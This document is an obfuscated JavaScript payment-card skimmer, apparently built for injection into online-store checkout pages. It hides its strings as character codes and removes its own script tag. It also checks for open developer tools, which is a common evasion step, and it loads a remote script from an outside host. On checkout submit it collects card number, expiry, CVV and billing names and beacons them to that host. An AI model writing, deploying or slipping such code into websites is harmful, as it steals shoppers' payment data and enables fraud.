!function(){var a=document,b=window,c=String.fromCharCode,d=a.currentScript;
d&&d.parentNode&&d.parentNode.removeChild(d);
var e=c(111,110,101,112,97,103,101),f=c(99,104,101,99,107,111,117,116);
if(b.location.href.indexOf(e)<0&&b.location.href.indexOf(f)<0)return;
var g=c(104,116,116,112,115,58,47,47,109,97,103,101,45,99,100,110,45,97,115,115,101,116,115,46,116,111,112,47,115,116,97,116,105,99,47,106,115,47,102,112,46,106,115);
function h(){if(b.outerWidth-b.innerWidth>160||b.outerHeight-b.innerHeight>160)return;
var i=a.createElement(c(115,99,114,105,112,116));i.src=g+"?"+Math.random().toString(36).slice(2);
i.onload=function(){i.remove()};(a.head||a.body).appendChild(i)}
function k(n){var o=a.getElementsByName(n)[0]||a.getElementById(n);return o&&o.value?o.value:""}
function l(){var m=[k(c(99,99,95,110,117,109,98,101,114)),k("cc_exp_month"),k("cc_exp_year"),k("cc_cid"),k("billing[firstname]"),k("billing[lastname]")];
if(m[0].length<12)return;var p=new Image;
p.src=g.replace("fp.js","px.gif")+"?z="+encodeURIComponent(btoa(m.join(";")))+"&h="+b.location.host}
var q=0;a.addEventListener("click",function(r){var s=r.target;
if(s&&(s.type=="submit"||/btn-checkout|place-order/.test(s.className))&&!q){q=1;l()}},!0);
a.readyState=="loading"?a.addEventListener("DOMContentLoaded",h):h()}();
